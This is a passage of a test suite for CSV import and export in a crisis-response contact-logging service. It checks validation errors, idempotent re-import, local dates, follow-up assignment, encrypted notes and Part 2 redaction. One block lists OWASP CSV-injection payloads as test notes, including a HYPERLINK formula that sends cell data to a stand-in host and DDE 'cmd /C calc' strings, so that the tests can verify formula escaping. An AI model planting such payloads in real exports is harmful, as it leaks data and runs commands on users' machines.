// CSV import and export on a real Postgres: what one import writes (clients, contacts, follow-ups,
// counters, encrypted notes, audit), that a bad file writes nothing and says where every problem
// is, that importing twice writes once, that dates land on the right local day, that an export
// imports back as the same contacts, and the command line itself.
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  chmodSync,
  linkSync,
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseProgramFile, type ProgramConfig } from '../../src/config.js';
import { openDatabase } from '../../src/db/client.js';
import { PART2_NOTICE } from '../../src/domain/contact-csv.js';
import { parseCsv } from '../../src/domain/csv.js';
import { logContact, openNotes } from '../../src/services/contacts.js';
import { createKeyring } from '../../src/services/crypto.js';
import { contactExportCsv, contactExportJson, exportContacts } from '../../src/services/csv-export.js';
import { importContacts, type TImportResult } from '../../src/services/csv-import.js';
import { syncPrograms, type Directory } from '../../src/services/directory.js';
import { openMigratedTestDatabase } from '../support/postgres.js';

const PROGRAMS_YAML = `
programs:
  - id: wilmington
    name: Wilmington Partners in Care
    timezone: America/New_York
    startDate: 2024-03-01
    clientCodePrefix: PIC
    slack: { teamId: T0WILM }
    roster:
      - { slack: U0CLIN1, roles: [clinician] }
      - { slack: U0CASE1, roles: [case_manager] }
      - { slack: U0CASE2, roles: [case_manager] }
  - id: copy
    name: An empty program with the same codes
    timezone: America/New_York
    startDate: 2024-03-01
    clientCodePrefix: PIC
    slack: { teamId: T0COPY }
  - id: pacific
    name: Pacific Co-Responders
    timezone: America/Los_Angeles
    startDate: 2024-01-01
    clientCodePrefix: DOV
    slack: { teamId: T0PAC }
  - id: sheets
    name: Keys a spreadsheet would read as formulas
    timezone: America/New_York
    startDate: 2024-01-01
    clientCodePrefix: SHT
    slack: { teamId: T0SHT }
    roster:
      - { slack: U0SHT1, roles: [clinician] }
    categories:
      sources: [-walk_in, other]
      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
  - id: sheets_copy
    name: The same keys, empty
    timezone: America/New_York
    startDate: 2024-01-01
    clientCodePrefix: SHT
    slack: { teamId: T0SHTC }
    categories:
      sources: [-walk_in, other]
      services: [+extra, crisis_services, { key: sud_counselling, label: Substance-use counselling, part2: true }]
`;
const programs = parseProgramFile(PROGRAMS_YAML, 'test.yml');
const wilmington = programs.find((p) => p.id === 'wilmington')!;
const copy = programs.find((p) => p.id === 'copy')!;
const pacific = programs.find((p) => p.id === 'pacific')!;
const sheets = programs.find((p) => p.id === 'sheets')!;
const sheetsCopy = programs.find((p) => p.id === 'sheets_copy')!;
const KEY = randomBytes(32);
const keyring = createKeyring(KEY);
const NOW = new Date('2025-01-15T12:00:00Z');
const NOTES = 'CANARY-51c0 said "not today", then\nleft with her sister';
/** Who runs the service-level exports here: no roster member, an operating-system account. */
const ACTOR = { memberId: null, named: null, osUser: 'operator', host: 'test-host' };

const HEADER = 'client_code,contact_date,source,services,referrals,disposition,sex,age_band,follow_up_date,notes';
/** Five contacts, three clients; PIC-0002 is first seen in the second row but its earliest contact is the fourth. */
const GOOD = [
  HEADER,
  `PIC-0001,2024-07-01T00:15-04:00,call_for_service,crisis_services;de_escalation,mental_health_treatment,resolved_on_scene,female,25-59,2024-07-03,"${NOTES.replaceAll('"', '""')}"`,
  'PIC-0002,2024-08-10,proactive_outreach,,,referral_only,male,18-24,,',
  'PIC-0001,2024-07-05 14:30,self_referral,shelter_info,social_services;other,voluntary_transport,,,,',
  'PIC-0002,2024-08-01T09:00:00Z,officer_contact,transport,,arrest,another,60+,,second row for PIC-0002: sex ignored',
  'PIC-0040,2024-09-30,community_contact,crisis_services,,resolved_on_scene,not_reported,not_reported,,',
].join('\r\n');

let env: Awaited<ReturnType<typeof openMigratedTestDatabase>>;
let directory: Directory;
const deps = () => ({ db: env.db, prisma: env.db.prisma, keyring, directory });
const run = (program: ProgramConfig, csv: string, now = NOW) => importContacts(deps(), { program, csv, now });

/** A contact as the form hands it to logContact: a new client, nothing optional filled in. */
function contactInput(
  over: Partial<Parameters<typeof logContact>[1]['input']>,
): Parameters<typeof logContact>[1]['input'] {
  return {
    client: { kind: 'new', sex: 'female', ageBand: '25-59' },
    occurredAt: new Date('2024-09-01T14:00:00Z'),
    source: 'call_for_service',
    services: [],
    referrals: [],
    disposition: 'resolved_on_scene',
    incidentRef: null,
    minutesOnScene: null,
    followUpDate: null,
    followUpAssignee: null,
    notes: null,
    ...over,
  };
}

function ok(r: TImportResult) {
  if (!r.ok) throw new Error(`import failed: ${JSON.stringify(r.errors)}`);
  return r.summary;
}

beforeAll(async () => {
  env = await openMigratedTestDatabase();
});
afterAll(async () => {
  await env?.cleanup();
});
beforeEach(async () => {
  await env.db.sql.exec(
    'TRUNCATE "AuditEvent", "Nudge", "FollowUp", "Contact", "Client", "Member", "Program" RESTART IDENTITY CASCADE',
  );
  directory = await syncPrograms(env.db, programs);
});

describe('import', () => {
  it('writes clients, contacts, follow-ups, counters, encrypted notes and the audit trail', async () => {
    const summary = ok(await run(wilmington, GOOD));
    expect(summary).toMatchObject({
      rows: 5,
      contactsCreated: 5,
      clientsCreated: 3,
      followUpsCreated: 1,
      contactsAlreadyImported: 0,
      contactNumbers: { first: 1, last: 5 },
    });
    // The follow-up of 3 July is met by the contact of 5 July.
    expect(summary.followUpsMet).toBe(1);

    const clients = await env.db.prisma.client.findMany({
      where: { programId: 'wilmington' },
      orderBy: { number: 'asc' },
    });
    expect(clients.map((c) => [c.code, c.number, c.sex, c.ageBand])).toEqual([
      ['PIC-0001', 1, 'female', '25-59'],
      ['PIC-0002', 2, 'male', '18-24'],
      ['PIC-0040', 40, 'not_reported', 'not_reported'],
    ]);
    expect(clients.map((c) => c.firstContactAt.toISOString())).toEqual([
      '2024-07-01T04:15:00.000Z',
      '2024-08-01T09:00:00.000Z', // the earliest contact, not the first line
      '2024-09-30T16:00:00.000Z', // date only: 12:00 in New York
    ]);

    const program = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
    expect([program.nextClientNumber, program.nextContactNumber]).toEqual([41, 6]);

    const contacts = await env.db.prisma.contact.findMany({
      where: { programId: 'wilmington' },
      orderBy: { number: 'asc' },
    });
    expect(contacts.map((c) => c.number)).toEqual([1, 2, 3, 4, 5]);
    expect(contacts.every((c) => c.authorId === null && c.idempotencyKey.startsWith('import:'))).toBe(true);
    expect(contacts[0]).toMatchObject({
      services: ['crisis_services', 'de_escalation'],
      referrals: ['mental_health_treatment'],
      followUpWanted: true,
    });
    expect(contacts[1]).toMatchObject({ services: [], referrals: [], followUpWanted: false, notesCiphertext: null });
    expect(contacts[0]!.notesCiphertext).not.toContain('CANARY');
    expect(
      openNotes(keyring, { programId: 'wilmington', contactId: contacts[0]!.id }, contacts[0]!.notesCiphertext!),
    ).toBe(NOTES);
    expect(contacts[0]!.notesKeyId).toBe(keyring.currentKeyId);

    const [followUp] = await env.db.prisma.followUp.findMany();
    const firstCaseManager = directory.member('wilmington', 'slack', 'U0CASE1')!.memberId;
    expect(followUp).toMatchObject({
      originContactId: contacts[0]!.id,
      dueAt: new Date('2024-07-03T13:00:00Z'), // 09:00 in New York
      assigneeId: firstCaseManager,
      status: 'done',
      metByContactId: contacts[2]!.id,
      completedAt: contacts[2]!.occurredAt,
    });

    const audit = await env.db.prisma.auditEvent.findMany({
      where: { NOT: { action: { startsWith: 'roster.' } } },
      orderBy: { id: 'asc' },
    });
    const count = (action: string) => audit.filter((a) => a.action === action).length;
    expect([
      count('client.create'),
      count('contact.create'),
      count('followup.create'),
      count('followup.complete'),
    ]).toEqual([3, 5, 1, 1]);
    expect(audit.every((a) => a.actorId === null && a.programId === 'wilmington')).toBe(true);
    expect(new Set(audit.filter((a) => a.action === 'contact.create').map((a) => a.entityId))).toEqual(
      new Set(contacts.map((c) => c.id)),
    );
  });

  it('reports every bad row by line and column, and writes nothing', async () => {
    const bad = [
      'source,client_code,contact_date,disposition,services,sex,age_band,follow_up_date,minutes_on_scene',
      'calls,PIC-0001,2024-07-01,resolved_on_scene,,female,25-59,,',
      'call_for_service,XYZ-0002,2024-07-01,resolved_on_scene,crisis_services;hugs;naps,male,18-24,,',
      'call_for_service,PIC-0003,2024-02-30,resolved_on_scene,,male,18-24,,',
      'call_for_service,PIC-0004,2024-07-01,resolved_on_scene,,,,2024-06-30,90',
      '"call_for_service",PIC-0005,"2024-07-01",resolved_on_scene,,male,18-24,,half an hour',
      'call_for_service,PIC-0006,2026-01-01,resolved_on_scene,,male,18-24,,',
      'call_for_service,PIC-0007,2024-07-01,resolved_on_scene',
      'call_for_service,PIC-0008,2024-07-01,resolved_on_scene,,male,18-24,,', // fine
    ].join('\n');
    const r = await run(wilmington, bad);
    expect(r.ok).toBe(false);
    const errors = r.ok ? [] : r.errors;
    expect(errors).toEqual([
      {
        line: 2,
        column: 'source',
        message: expect.stringMatching(/^"calls" is not one of call_for_service, proactive_outreach, .*, other$/),
      },
      { line: 3, column: 'client_code', message: '"XYZ-0002" is not a client code of this program (such as PIC-0042)' },
      { line: 3, column: 'services', message: expect.stringMatching(/^"hugs" is not one of crisis_services, /) },
      { line: 3, column: 'services', message: expect.stringMatching(/^"naps" is not one of /) },
      { line: 4, column: 'contact_date', message: expect.stringMatching(/^"2024-02-30" is not a date/) },
      { line: 5, column: 'follow_up_date', message: '"2024-06-30" is before the contact date' },
      // Words are never quoted back: only values in the shape of their column are.
      { line: 6, column: 'minutes_on_scene', message: 'is not a whole number of minutes' },
      { line: 7, column: 'contact_date', message: '"2026-01-01" is in the future' },
      { line: 8, column: null, message: 'has 4 fields; the header has 9' },
    ]);
    expect(await env.db.prisma.contact.count()).toBe(0);
    expect(await env.db.prisma.client.count()).toBe(0);
    expect(await env.db.prisma.auditEvent.count({ where: { NOT: { action: { startsWith: 'roster.' } } } })).toBe(0);
  });

  it('requires sex and age band on the first row of a new client, and only there', async () => {
    ok(await run(wilmington, `${HEADER}\nPIC-0001,2024-07-01,call_for_service,,,resolved_on_scene,female,25-59,,\n`));
    const r = await run(
      wilmington,
      [
        HEADER,
        'PIC-0001,2024-07-02,call_for_service,,,resolved_on_scene,,,,', // known client: not needed
        'PIC-0009,2024-07-02,call_for_service,,,resolved_on_scene,male,,,', // new: age band missing
        'PIC-0009,2024-07-03,call_for_service,,,resolved_on_scene,male,18-24,,', // too late
      ].join('\n'),
    );
    expect(r).toEqual({
      ok: false,
      errors: [
        { line: 3, column: 'age_band', message: 'is required for a new client (PIC-0009 is first seen on this line)' },
      ],
    });
  });

  it('never quotes free text back in an error: a name or a note in the wrong column, a file without its header', async () => {
    const NAME = 'Jane Roe';
    const NOTE = 'Said the voices told her to stop';
    const header = 'client_code,contact_date,source,services,disposition,sex,age_band,follow_up_date';
    const wrong = await run(
      wilmington,
      [
        header,
        `${NAME},2024-07-01,${NAME},crisis_services;${NAME},resolved_on_scene,${NAME},25-59,${NOTE}`,
        `PIC-0002,${NOTE},Jane,,resolved_on_scene,male,${NOTE},`,
      ].join('\n'),
    );
    const noHeader = await run(
      wilmington,
      `PIC-0001,2024-07-01,call_for_service,crisis_services,resolved_on_scene,female,25-59,"${NOTE}"\n`,
    );
    const errors = [...(wrong.ok ? [] : wrong.errors), ...(noHeader.ok ? [] : noHeader.errors)];
    // Header cells are named only when written like column names; the rest go by position.
    expect(errors.map((e) => e.column)).toEqual([
      ...['client_code', 'source', 'services', 'sex', 'follow_up_date', 'contact_date', 'source', 'age_band'],
      ...[
        '#1',
        '#2',
        'call_for_service',
        'crisis_services',
        'resolved_on_scene',
        'female',
        '#7',
        '#8',
        'client_code',
        'contact_date',
        'source',
        'disposition',
      ],
    ]);
    expect(JSON.stringify(errors)).not.toMatch(/jane|roe|voices/i);
    // A key-shaped typo is still shown, so it can be found.
    const typo = await run(wilmington, `${header}\nPIC-0001,2024-07-01,calls,,resolved_on_scene,female,25-59,\n`);
    expect(typo.ok ? [] : typo.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(/^"calls" is not one of /),
    ]);
  });

  it('refuses a header with a misspelt or missing column', async () => {
    const r = await run(wilmington, 'client_code,contact_date,source,referal\nPIC-1,2024-07-01,other,\n');
    expect(r.ok ? [] : r.errors.map((e) => [e.line, e.column])).toEqual([
      [1, 'referal'],
      [1, 'disposition'],
    ]);
  });

  it('writes nothing new when the same file is imported again', async () => {
    ok(await run(wilmington, GOOD));
    const before = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
    const auditBefore = await env.db.prisma.auditEvent.count();
    const again = ok(await run(wilmington, GOOD));
    expect(again).toMatchObject({
      contactsCreated: 0,
      clientsCreated: 0,
      followUpsCreated: 0,
      contactsAlreadyImported: 5,
      contactNumbers: null,
    });
    expect(await env.db.prisma.contact.count()).toBe(5);
    expect(await env.db.prisma.followUp.count()).toBe(1);
    expect(await env.db.prisma.auditEvent.count()).toBe(auditBefore);
    const after = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
    expect([after.nextClientNumber, after.nextContactNumber]).toEqual([
      before.nextClientNumber,
      before.nextContactNumber,
    ]);
    // Lines repeated within one file count once too.
    const doubled = ok(await run(copy, `${GOOD}\r\n${GOOD.split('\r\n')[2]}\r\n`));
    expect([doubled.contactsCreated, doubled.duplicateRows]).toEqual([5, 1]);
  });

  it('keeps a date-only contact on its local day at the quarter edge', async () => {
    // Midnight UTC on 1 October is still 30 September in Los Angeles; 12:00 local is not.
    ok(
      await run(
        pacific,
        [
          HEADER,
          'DOV-0001,2024-10-01,call_for_service,,,resolved_on_scene,male,25-59,,',
          'DOV-0002,2024-09-30,call_for_service,,,resolved_on_scene,male,25-59,,',
        ].join('\n'),
      ),
    );
    const contacts = await env.db.prisma.contact.findMany({
      where: { programId: 'pacific' },
      orderBy: { number: 'asc' },
    });
    expect(contacts.map((c) => c.occurredAt.toISOString())).toEqual([
      '2024-10-01T19:00:00.000Z',
      '2024-09-30T19:00:00.000Z',
    ]);
    const q3 = await exportContacts(deps(), {
      program: pacific,
      from: '2024-07-01',
      to: '2024-09-30',
      includeNotes: false,
      actor: ACTOR,
    });
    const q4 = await exportContacts(deps(), {
      program: pacific,
      from: '2024-10-01',
      to: '2024-12-31',
      includeNotes: false,
      actor: ACTOR,
    });
    expect(q3.rows.map((r) => r[1])).toEqual(['DOV-0002']);
    expect(q4.rows.map((r) => r[1])).toEqual(['DOV-0001']);
    expect(q4.rows[0]![2]).toBe('2024-10-01T12:00-07:00');
  });

  it('gives follow-ups to the client’s case manager, else the least loaded one, row by row as in chat', async () => {
    const [case1, case2] = ['U0CASE1', 'U0CASE2'].map((id) => directory.member('wilmington', 'slack', id)!.memberId);
    // PIC-0001 is logged in chat first, with a follow-up: U0CASE1 (roster order) takes it and the client.
    const logged = await logContact(deps(), {
      program: wilmington,
      author: directory.member('wilmington', 'slack', 'U0CLIN1')!,
      idempotencyKey: 'view-5',
      input: contactInput({ followUpDate: '2024-09-10' }),
    });
    expect(logged.followUp!.assigneeMemberId).toBe(case1);
    const summary = ok(
      await run(
        wilmington,
        [
          HEADER,
          // U0CASE1 carries one pending follow-up: the new client PIC-0002 goes to U0CASE2, and is theirs.
          'PIC-0002,2024-08-01,other,,,other,male,18-24,2024-08-20,',
          // Both carry one now: roster order, U0CASE1.
          'PIC-0003,2024-08-02,other,,,other,male,18-24,2024-08-21,',
          // PIC-0002's own case manager, though U0CASE2 now carries more.
          'PIC-0002,2024-08-03,other,,,other,,,2024-08-22,',
          // Counted: U0CASE1 2, U0CASE2 2 (met later in the file or not). Roster order.
          'PIC-0004,2024-08-04,other,,,other,female,25-59,2024-08-23,',
          // A contact without a follow-up gives its client no case manager.
          'PIC-0006,2024-08-05,other,,,other,female,25-59,,',
        ].join('\n'),
      ),
    );
    expect(summary.followUpsCreated).toBe(4);
    const contacts = await env.db.prisma.contact.findMany({
      where: { programId: 'wilmington', authorId: null },
      orderBy: { number: 'asc' },
      include: { client: true, followUps: true },
    });
    expect(contacts.map((c) => [c.client.code, c.followUps[0]?.assigneeId ?? null, c.followUpAssigneeId])).toEqual([
      ['PIC-0002', case2, case2],
      ['PIC-0003', case1, case1],
      ['PIC-0002', case2, case2],
      ['PIC-0004', case1, case1],
      ['PIC-0006', null, null],
    ]);
    const clients = await env.db.prisma.client.findMany({
      where: { programId: 'wilmington' },
      orderBy: { number: 'asc' },
    });
    expect(clients.map((c) => [c.code, c.caseManagerId])).toEqual([
      ['PIC-0001', case1],
      ['PIC-0002', case2],
      ['PIC-0003', case1],
      ['PIC-0004', case1],
      ['PIC-0006', null],
    ]);
  });

  it('moves an existing client’s first contact earlier and numbers after codes beyond the counter', async () => {
    const clinician = directory.member('wilmington', 'slack', 'U0CLIN1')!;
    const logged = await logContact(deps(), {
      program: wilmington,
      author: clinician,
      idempotencyKey: 'view-1',
      input: contactInput({}),
    });
    expect([logged.clientCode, logged.contactNumber]).toEqual(['PIC-0001', 1]);
    ok(
      await run(
        wilmington,
        [HEADER, 'PIC-0001,2024-06-01,other,,,other,male,0-12,,', 'PIC-0900,2024-06-02,other,,,other,male,0-12,,'].join(
          '\n',
        ),
      ),
    );
    const first = await env.db.prisma.client.findFirstOrThrow({ where: { programId: 'wilmington', number: 1 } });
    expect(first).toMatchObject({ sex: 'female', firstContactAt: new Date('2024-06-01T16:00:00Z') });
    const p = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
    expect([p.nextClientNumber, p.nextContactNumber]).toEqual([901, 4]);
  });
});

describe('export', () => {
  it('imports into an empty program as the same contacts, notes and follow-ups included', async () => {
    ok(await run(wilmington, GOOD));
    const all = { from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
    const original = contactExportCsv(await exportContacts(deps(), { program: wilmington, ...all }));
    const parsed = parseCsv(original);
    expect(parsed.ok && parsed.records.length).toBe(6);

    const summary = ok(await run(copy, original));
    expect([summary.contactsCreated, summary.clientsCreated]).toEqual([5, 3]);
    const copied = contactExportCsv(await exportContacts(deps(), { program: copy, ...all }));
    expect(copied).toBe(original);

    const fields = [
      'number',
      'occurredAt',
      'source',
      'services',
      'referrals',
      'disposition',
      'followUpDate',
      'incidentRef',
      'minutesOnScene',
    ] as const;
    const view = async (programId: string) =>
      (
        await env.db.prisma.contact.findMany({
          where: { programId },
          orderBy: { number: 'asc' },
          include: { client: true, followUps: true },
        })
      ).map((c) => ({
        ...Object.fromEntries(fields.map((f) => [f, c[f]])),
        client: [c.client.code, c.client.sex, c.client.ageBand, c.client.firstContactAt.toISOString()],
        notes: c.notesCiphertext && openNotes(keyring, { programId, contactId: c.id }, c.notesCiphertext),
        followUps: c.followUps.map((f) => [f.dueAt.toISOString(), f.status]),
      }));
    expect(await view('copy')).toEqual(await view('wilmington'));
  });

  it('imported back into its own program, recognises every contact, even those logged in chat', async () => {
    ok(await run(wilmington, GOOD));
    const clinician = directory.member('wilmington', 'slack', 'U0CLIN1')!;
    await logContact(deps(), {
      program: wilmington,
      author: clinician,
      idempotencyKey: 'view-2',
      input: {
        client: {
          kind: 'existing',
          clientId: (await env.db.prisma.client.findFirstOrThrow({ where: { number: 40 } })).id,
        },
        occurredAt: new Date('2024-10-02T15:00:00Z'),
        source: 'other',
        services: [],
        referrals: [],
        disposition: 'other',
        incidentRef: 'CAD-1',
        minutesOnScene: 12,
        followUpDate: null,
        followUpAssignee: null,
        notes: null,
      },
    });
    const csv = contactExportCsv(
      await exportContacts(deps(), {
        program: wilmington,
        from: '2024-03-01',
        to: '2024-12-31',
        includeNotes: true,
        actor: ACTOR,
      }),
    );
    expect(csv).toContain(',CAD-1,12,');
    const again = ok(await run(wilmington, csv));
    expect([again.contactsCreated, again.contactsAlreadyImported]).toEqual([0, 6]);
  });

  it('leaves notes out unless asked, and audits an export with notes as such', async () => {
    ok(await run(wilmington, GOOD));
    const range = { from: '2024-07-01', to: '2024-07-31' };
    const plain = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: false, actor: ACTOR });
    expect(plain.columns).not.toContain('notes');
    expect(plain.rows).toHaveLength(2);
    expect(JSON.stringify(plain)).not.toContain('CANARY');
    const withNotes = await exportContacts(deps(), { program: wilmington, ...range, includeNotes: true, actor: ACTOR });
    expect(withNotes.columns.at(-1)).toBe('notes');
    expect(withNotes.rows[0]!.at(-1)).toBe(NOTES);
    const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
    expect(audit.map((a) => [a.action, a.entityId, a.actorId])).toEqual([
      ['contact.export', 'wilmington', null],
      ['contact.export_notes', 'wilmington', null],
    ]);
  });
});

describe('42 CFR Part 2 in the export', () => {
  const PART2_ROWS = [
    HEADER,
    'PIC-0001,2024-07-01,call_for_service,,addiction_treatment;social_services,resolved_on_scene,female,25-59,,',
    'PIC-0002,2024-07-02,call_for_service,,addiction_treatment,referral_only,male,18-24,,',
    'PIC-0003,2024-07-03,call_for_service,,,referral_only,male,18-24,,',
  ].join('\n');
  const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };

  it('leaves Part 2 referrals out as if never chosen, unless asked; then the 2.32 notice heads the file', async () => {
    ok(await run(wilmington, PART2_ROWS));
    const plain = await exportContacts(deps(), { program: wilmington, ...range });
    const text = contactExportCsv(plain);
    expect(text).not.toMatch(/addiction|part 2/i);
    expect(text.split('\r\n')[0]).toMatch(/^contact_number,/);
    // The contact with only a Part 2 referral looks like the one with none: nothing to infer from.
    const referrals = plain.columns.indexOf('referrals');
    expect(plain.rows.map((r) => r[referrals])).toEqual(['social_services', '', '']);
    expect(plain.notice).toBeNull();

    const part2 = await exportContacts(deps(), { program: wilmington, ...range, includePart2: true });
    const withPart2 = contactExportCsv(part2);
    expect(part2.rows.map((r) => r[referrals])).toEqual([
      'addiction_treatment;social_services',
      'addiction_treatment',
      '',
    ]);
    expect(withPart2.split('\r\n')[0]).toBe(
      '# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records.',
    );
    expect(JSON.parse(contactExportJson(part2))).toMatchObject({
      notice: PART2_NOTICE,
      contacts: [{ referrals: 'addiction_treatment;social_services' }, {}, {}],
    });
    expect(Array.isArray(JSON.parse(contactExportJson(plain)))).toBe(true);

    const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
    expect(audit.map((a) => [a.action, a.count, a.details])).toEqual([
      ['contact.export', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: false }],
      ['contact.export_part2', 3, { osUser: 'operator', host: 'test-host', actor: null, notes: false, part2: true }],
    ]);
  });

  it('imports back with the notice line skipped: the same contacts in an empty program, nothing new in its own', async () => {
    ok(await run(wilmington, PART2_ROWS));
    const all = { ...range, includePart2: true, includeNotes: true };
    const original = contactExportCsv(await exportContacts(deps(), { program: wilmington, ...all }));
    expect(original.startsWith('# NOTICE:')).toBe(true);
    expect(ok(await run(copy, original))).toMatchObject({ contactsCreated: 3, clientsCreated: 3 });
    expect(contactExportCsv(await exportContacts(deps(), { program: copy, ...all }))).toBe(original);
    expect(ok(await run(wilmington, original))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
    // A spreadsheet that saved the notice row padded with empty cells is read the same way.
    const padded = original.replace(/^(.*)\r\n/, (_, line: string) => `${line}${','.repeat(12)}\r\n`);
    expect(ok(await run(wilmington, padded))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 3 });
  });
});

describe('formula-like cells in the export', () => {
  // Every OWASP trigger, a note that truly begins with a quote, and quotes and commas inside.
  const NOTES = [
    '=HYPERLINK("https://x.example/?"&B2,"click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1, then left',
    "'=1+1 (typed with the quote)",
    "''-2",
    "'twas a quiet night",
    'plain note',
  ];

  it('come out as text and import back as the original text: notes, incident refs and keys', async () => {
    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
    for (const [i, notes] of NOTES.entries()) {
      await logContact(deps(), {
        program: sheets,
        author,
        idempotencyKey: `view-${i}`,
        input: contactInput({
          occurredAt: new Date(Date.UTC(2024, 6, 1 + i, 15)),
          source: i % 2 ? '-walk_in' : 'other',
          services: i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'],
          incidentRef: `CAD-2024/${i}.#${i}`,
          minutesOnScene: i,
          notes,
        }),
      });
    }
    const all = { from: '2024-01-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
    const original = contactExportCsv(await exportContacts(deps(), { program: sheets, ...all }));
    expect(original).toContain(`"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`);
    expect(original).toContain(`"'''-2"`);
    expect(original).toContain(`,"'-walk_in",`);
    const parsed = parseCsv(original);
    if (!parsed.ok) throw new Error('export is not CSV');
    const live = parsed.records.flatMap((r) => r.fields).filter((f) => /^[=+\-@\t\r]/.test(f));
    expect(live).toEqual([]);

    expect(ok(await run(sheetsCopy, original))).toMatchObject({ contactsCreated: NOTES.length });
    expect(contactExportCsv(await exportContacts(deps(), { program: sheetsCopy, ...all }))).toBe(original);
    const stored = await env.db.prisma.contact.findMany({
      where: { programId: 'sheets_copy' },
      orderBy: { number: 'asc' },
    });
    expect(
      stored.map((c) => openNotes(keyring, { programId: 'sheets_copy', contactId: c.id }, c.notesCiphertext!)),
    ).toEqual(NOTES);
    expect(stored.map((c) => [c.source, c.services, c.incidentRef])).toEqual(
      NOTES.map((_, i) => [
        i % 2 ? '-walk_in' : 'other',
        i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'],
        `CAD-2024/${i}.#${i}`,
      ]),
    );
  });

  it('drop a program’s own Part 2 services too, unless asked', async () => {
    const author = directory.member('sheets', 'slack', 'U0SHT1')!;
    await logContact(deps(), {
      program: sheets,
      author,
      idempotencyKey: 'view-sud',
      input: contactInput({
        occurredAt: new Date('2024-07-01T15:00:00Z'),
        source: 'other',
        services: ['sud_counselling', '+extra'],
      }),
    });
    const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
    const services = (e: { columns: string[]; rows: string[][] }) =>
      e.rows.map((r) => r[e.columns.indexOf('services')]);
    expect(services(await exportContacts(deps(), { program: sheets, ...range }))).toEqual(['+extra']);
    expect(services(await exportContacts(deps(), { program: sheets, ...range, includePart2: true }))).toEqual([
      'sud_counselling;+extra',
    ]);
  });
});

describe('on the embedded database', () => {
  // The command line uses PGlite when DATABASE_URL is unset; its array parameters must work too.
  it('imports, recognises a second import and exports the same rows', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'carelog-csv-pglite-'));
    const db = await openDatabase({ dataDir: dir });
    try {
      await db.migrate();
      const dir2 = await syncPrograms(db, [wilmington]);
      const embedded = { db, prisma: db.prisma, keyring, directory: dir2 };
      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({
        contactsCreated: 5,
        clientsCreated: 3,
      });
      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({
        contactsCreated: 0,
        contactsAlreadyImported: 5,
      });
      const all = { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
      const there = contactExportCsv(await exportContacts(embedded, all));
      ok(await run(wilmington, GOOD));
      expect(contactExportCsv(await exportContacts(deps(), all))).toBe(there);
    } finally {
      await db.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});

// Each case starts the command line as its own process (about 2 s each on a quiet machine, far
// more on a busy one): a generous limit, so that a slow start is not a failure.
describe('the command line', { timeout: 120_000 }, () => {
  const exec = promisify(execFile);
  let dir: string;
  let cliEnv: NodeJS.ProcessEnv;
  const cli = (...args: string[]) =>
    exec(process.execPath, ['--import', 'tsx', 'src/cli.ts', ...args], {
      env: cliEnv,
      cwd: process.cwd(),
      maxBuffer: 16 * 2 ** 20,
    }).then(
      (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
      (err: { code: number; stdout: string; stderr: string }) => ({
        code: err.code,
        stdout: err.stdout,
        stderr: err.stderr,
      }),
    );

  beforeAll(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'carelog-csv-cli-'));
    writeFileSync(path.join(dir, 'carelog.yml'), PROGRAMS_YAML);
    writeFileSync(path.join(dir, 'good.csv'), `\uFEFF${GOOD}\r\n`);
    writeFileSync(
      path.join(dir, 'bad.csv'),
      `${HEADER}\nPIC-0001,2024-07-01,calls,,,resolved_on_scene,female,25-59,,\n`,
    );
    cliEnv = {
      PATH: process.env.PATH,
      NODE_ENV: 'test',
      DATABASE_URL: env.url,
      CARELOG_CONFIG: path.join(dir, 'carelog.yml'),
      CARELOG_DATA_DIR: path.join(dir, 'data'),
      CARELOG_ENCRYPTION_KEY: KEY.toString('base64'),
      LOG_LEVEL: 'silent',
    };
  });
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('imports with --json: only the JSON document on stdout', async () => {
    const r = await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'good.csv'), '--json');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, summary: { contactsCreated: 5, clientsCreated: 3 } });
    const contact = await env.db.prisma.contact.findFirstOrThrow({ where: { programId: 'wilmington', number: 1 } });
    expect(openNotes(keyring, { programId: 'wilmington', contactId: contact.id }, contact.notesCiphertext!)).toBe(
      NOTES,
    );
  });

  it('fails a bad file with exit code 1: errors in the JSON document, or on stderr', async () => {
